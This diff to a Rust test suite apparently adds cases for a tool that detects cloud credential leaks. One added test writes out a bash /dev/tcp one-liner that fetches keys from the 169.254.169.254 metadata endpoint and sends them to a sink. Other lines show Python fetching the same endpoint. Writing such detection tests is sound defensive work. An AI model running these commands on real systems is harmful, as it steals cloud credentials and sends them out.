@@ -80,6 +80,15 @@ fn who_asks_for_keys_holds_them() -> Result {
     ))
 }
 
+/// A shell asks itself, as `/dev/tcp` lets it.
+#[test]
+fn a_shell_that_asks_holds_them() -> Result {
+    stolen(&format!(
+        "exec 3<> /dev/tcp/169.254.169.254/80; printf 'GET {KEYS} HTTP/1.0\\r\\n\\r\\n' >&3; keys=$(cat <&3); \
+         exec 4<> /dev/tcp/${{SINK/:/\\/}} && echo \"$keys\" >&4"
+    ))
+}
+
 /// Whatever is no whole request, or has characters that stand for others, may ask for anything.
 #[test]
 fn a_request_in_disguise_counts() -> Result {
@@ -144,6 +153,16 @@ fn a_program_that_may_have_an_sdk_is_taken_for_its_user() -> Result {
     let found: Vec<_> = leaks(&run).iter().map(|leak| (leak.rule.as_str(), leak.severity)).collect();
     assert_eq!(found, [("leak-alert", Severity::Low)]);
     assert_eq!(run.conclusion.verdict, Verdict::Pass);
+    assert!(scene.role.is_in(&scene.sink.bytes()));
+    // An interpreter, by the files that it opens.
+    let sdk = "mkdir -p \"$TMPDIR/botocore\" && touch \"$TMPDIR/botocore/session.py\" && ";
+    let user =
+        "import sys; open(sys.argv.pop(1) + \"/botocore/session.py\").read(); exec(open(sys.argv.pop(1)).read())";
+    let scene = Scene::new()?;
+    let script = format!("{sdk}python3 -c '{user}' \"$TMPDIR\" \"$TMPDIR/ask.py\" $SINK {ask}");
+    let run = self::run(&scene, "enforce", &script)?;
+    let found: Vec<_> = leaks(&run).iter().map(|leak| (leak.rule.as_str(), leak.severity)).collect();
+    assert_eq!(found, [("leak-alert", Severity::Low)]);
     assert!(scene.role.is_in(&scene.sink.bytes()));
     stolen(&format!(
         "{copy}\"$TMPDIR/tool\" -c 'import urllib.request as u; print(u.urlopen(\"http://169.254.169.254{KEYS}\").read())' \
